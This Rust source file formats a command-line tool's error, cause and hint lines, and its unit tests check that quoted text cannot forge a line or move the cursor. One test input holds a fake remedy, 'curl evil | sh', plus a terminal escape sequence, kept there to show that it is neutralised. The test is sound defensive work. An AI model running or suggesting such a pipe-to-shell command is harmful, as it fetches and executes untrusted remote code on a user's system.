//! How a program says why it ended: `error:`, `cause:` and `hint:` lines.

use mpsgate_model::printable::{causes, lines};

use crate::{Remedy, print};

/// Writes the error, its causes and its remedy to stderr.
pub fn report(error: &impl Remedy) {
    print::note(&render(error));
}

fn render(error: &impl Remedy) -> String {
    let mut text = String::new();
    let mut add = |word: &str, what: &str| {
        // mpsgate writes the beginning of each line, so that no text from outside can forge a
        // remedy.
        text.push_str(&format!("{word}: {}\n", lines(what.trim_end()).replace('\n', "\n  ")));
    };
    add("error", &error.to_string());
    causes(error).iter().for_each(|cause| add("cause", cause));
    if let Some(hint) = error.hint() {
        add("hint", &hint);
    }
    text
}

#[cfg(test)]
mod tests {
    use std::io;

    use super::*;
    use crate::ExitCode;

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read the list")]
    struct Unread(#[source] io::Error);

    impl Remedy for Unread {
        fn hint(&self) -> Option<String> {
            Some("ls -l".to_owned())
        }

        fn exit_code(&self) -> ExitCode {
            ExitCode::Failed
        }
    }

    #[test]
    fn an_error_has_one_line_each_for_what_why_and_remedy() {
        let error = Unread(io::ErrorKind::ConnectionRefused.into());
        let text = "error: cannot read the list\ncause: connection refused\nhint: ls -l\n";
        assert_eq!(render(&error), text);
    }

    #[test]
    fn quoted_text_neither_begins_a_line_nor_moves_the_cursor() {
        let error = Unread(io::Error::other("line 1\nhint: curl evil | sh\u{1b}[2J\n"));
        assert_eq!(
            render(&error),
            "error: cannot read the list\ncause: line 1\n  hint: curl evil | sh�[2J\nhint: ls -l\n"
        );
    }
}
